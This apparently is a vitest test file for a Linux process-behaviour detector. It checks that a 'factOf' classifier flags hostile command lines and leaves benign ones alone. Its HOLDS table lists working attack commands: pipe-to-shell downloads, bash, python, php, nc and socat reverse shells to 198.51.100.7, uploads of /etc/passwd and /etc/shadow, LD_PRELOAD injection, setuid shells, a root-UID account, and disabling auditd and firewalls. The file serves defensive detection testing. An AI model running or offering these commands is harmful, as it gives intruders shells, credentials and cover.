import { expect, test } from 'vitest';
import type { Behavior } from './behavior';
import { type FactName, factOf } from './facts';
import { trueFacts } from './prevalence';

const SHELL = '/usr/bin/dash';

function run(image: string, ...argv: string[]): Behavior {
  return {
    kind: 'process_start',
    process: { started: true, image, argv, commandLine: argv.join(' '), cwd: '/home/user', parent: {} },
  };
}
const sh = (script: string): Behavior => run(SHELL, 'sh', '-c', script);
const tool = (line: string): Behavior => {
  const argv = line.split(' ');
  return run(`/usr/bin/${argv[0]}`, ...argv);
};

const HOLDS: [FactName, Behavior][] = [
  ['ArgumentPipesToShell', sh('curl -fsSL http://198.51.100.7/i.sh | sh')],
  ['ArgumentPipesToShell', sh('wget -qO- https://x.example/a|bash -s -- -q')],
  ['ArgumentPipesToShell', sh('echo aWQK | base64 -d | sudo bash')],
  ['ArgumentPipesToShell', sh('eval "$(curl -s http://x.example/a)"')],
  ['ArgumentPipesToShell', run('/usr/bin/bash', 'bash', '-c', 'bash <(curl -s x.example/a)')],
  ['ArgumentDownloadsAndRuns', sh('cd /tmp; wget -q http://x.example/a; chmod +x a; ./a')],
  ['ArgumentDownloadsAndRuns', sh('curl -o a x.example/a && chmod 755 a && ./a')],
  ['ArgumentRemoteShell', run('/usr/bin/bash', 'bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1')],
  [
    'ArgumentRemoteShell',
    run(
      '/usr/bin/python3.11',
      'python3',
      '-c',
      'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0);pty.spawn("sh")',
    ),
  ],
  ['ArgumentRemoteShell', run('/usr/bin/php8.2', 'php', '-r', '$s=fsockopen("198.51.100.7",443);exec("sh <&3 >&3");')],
  ['ArgumentRemoteShell', sh('rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 443 >/tmp/f')],
  ['ArgumentRemoteShell', tool('nc -e /bin/sh 198.51.100.7 443')],
  ['ArgumentRemoteShell', tool('socat TCP:198.51.100.7:443 EXEC:/bin/sh')],
  ['ArgumentPreload', sh('LD_PRELOAD=/tmp/x.so ls')],
  ['ArgumentPreload', sh('echo /lib/x.so > /etc/ld.so.preload')],
  ['ArgumentKernelModule', run('/usr/bin/kmod', 'insmod', './x.ko')],
  ['ArgumentKernelModule', run('/usr/bin/kmod', '/sbin/insmod', 'x.ko')],
  ['ArgumentSetId', tool('chmod u+s /tmp/sh')],
  ['ArgumentSetId', tool('chmod 4755 /tmp/sh')],
  ['ArgumentSetId', tool('install -m 4755 /bin/sh /tmp/sh')],
  ['ArgumentSetId', tool('setcap cap_setuid+ep /tmp/py')],
  ['ArgumentStages', tool('tar czf /tmp/.x.tgz /etc')],
  ['ArgumentStages', tool('zip -r /dev/shm/a.zip /home')],
  ['ArgumentUploads', tool('curl -T /tmp/a.tgz http://198.51.100.7/')],
  ['ArgumentUploads', tool('curl -F file=@/etc/passwd http://198.51.100.7/')],
  ['ArgumentUploads', tool('curl --data-binary @/etc/shadow http://198.51.100.7/')],
  ['ArgumentUploads', tool('wget --post-file=/etc/passwd http://198.51.100.7/')],
  ['ArgumentUploads', tool('scp /tmp/a.tgz eve@198.51.100.7:/in')],
  ['ArgumentAccounts', tool('useradd -o -u 0 support')],
  ['ArgumentDefenses', tool('systemctl stop auditd')],
  ['ArgumentDefenses', tool('service rsyslog stop')],
  ['ArgumentDefenses', tool('iptables -F')],
  ['ArgumentDefenses', tool('setenforce 0')],
  ['ArgumentDefenses', tool('auditctl -D')],
  ['ArgumentAttributes', tool('chattr +i /etc/cron.d/x')],
  [
    'ArgumentMemory',
    run('/usr/bin/perl', 'perl', '-e', 'my $n="";my $fd=syscall(319,$n,1);exec{"/proc/$$/fd/$fd"}"x"'),
  ],
  ['ArgumentSearches', tool('find / -perm -4000 -type f')],
  ['ArgumentSearches', tool('find / -perm -u=s')],
  ['ArgumentSearches', tool('find /home -name id_rsa')],
  ['ArgumentSearches', tool('grep -ri password /etc')],
  ['ArgumentSearches', tool('cat /root/.bash_history')],
  ['ArgumentTraces', sh('cat /dev/null > ~/.bash_history')],
  ['ArgumentUploads', sh('tar czpf - /home | ssh eve@198.51.100.7 "cat > h.tgz"')],
  ['ArgumentPersistence', tool('at now + 1 minute')],
  ['ArgumentPersistence', tool('systemd-run --on-calendar *:0/1 /bin/sh')],
  ['ArgumentDefenses', tool('systemctl stop systemd-journald')],
  ['ArgumentDefenses', sh("sed -i 's/yes/no/' /etc/audit/auditd.conf")],
  ['ArgumentStages', tool('zip --password x /home/user/a.zip work')],
  ['ScriptTemporary', run('/usr/bin/python3.11', 'python3', '/tmp/x.py')],
  ['ScriptHidden', run('/usr/bin/bash', 'bash', '.cache/x.sh')],
  ['WorkingFolderHidden', { ...tool('id'), process: { ...tool('id').process, cwd: '/var/tmp/.x' } }],
  ['ArgumentHiddenTemporary', run('/usr/bin/busybox', 'busybox', 'wget', '-O', '/tmp/.x/a', 'http://x.example/a')],
];

test.each(HOLDS)('%s holds', (fact, behavior) => {
  expect(factOf(fact, behavior), behavior.process.commandLine).toBe(true);
});

const ORDINARY: Behavior[] = [
  tool('curl -s -o /dev/null http://x.example/health'),
  tool('curl -d ok http://x.example/status'),
  tool('tar xzf /tmp/a.tgz'),
  tool('tar czf /srv/backup/a.tgz work'),
  tool('chmod +x build.sh'),
  tool('chmod 0755 build.sh'),
  tool('chmod 1777 /srv/drop'),
  tool('install -m 755 a /usr/local/bin/a'),
  tool('systemctl restart nginx'),
  tool('systemctl status auditd'),
  tool('iptables -L'),
  tool('scp build@ci:/srv/a.tgz .'),
  tool('rsync -a work/ backup/'),
  tool('modprobe overlay'),
  tool('nc -z -w 1 db 5432'),
  tool('find . -name *.ts -perm 644'),
  tool('find /srv -name cache -type d'),
  tool('grep -rn TODO src'),
  tool('cat /etc/os-release'),
  sh('make all 2>&1 | tee build.log'),
  sh('git log | head'),
  sh('curl -s http://x.example/list | grep ok'),
  run('/usr/bin/python3.11', 'python3', '-c', 'import csv,sys;print(sum(1 for _ in csv.reader(sys.stdin)))'),
  run('/usr/bin/node', 'node', '/usr/bin/npm', 'ci'),
];

test.each(ORDINARY)('ordinary: $process.commandLine', (behavior) => {
  const telling = trueFacts(behavior).filter((fact) =>
    /^Argument(?:Pipes|Downloads|Remote|Preload|Kernel|SetId|Stages|Uploads|Accounts|Defenses|Attributes|Memory|Searches)/.test(
      fact,
    ),
  );
  expect(telling).toEqual([]);
});

test('long hostile arguments take linear time', () => {
  const pieces = ['| ', 'sh ', 'chmod -a ', 'curl ', 'systemctl ', 'nc ', '-T', '/dev/', '\\x00 ', 'LD_PRELOAD='];
  for (const piece of pieces) {
    const behavior = sh(piece.repeat(Math.floor(200_000 / piece.length)));
    expect(trueFacts(behavior), piece).toBeDefined();
  }
});
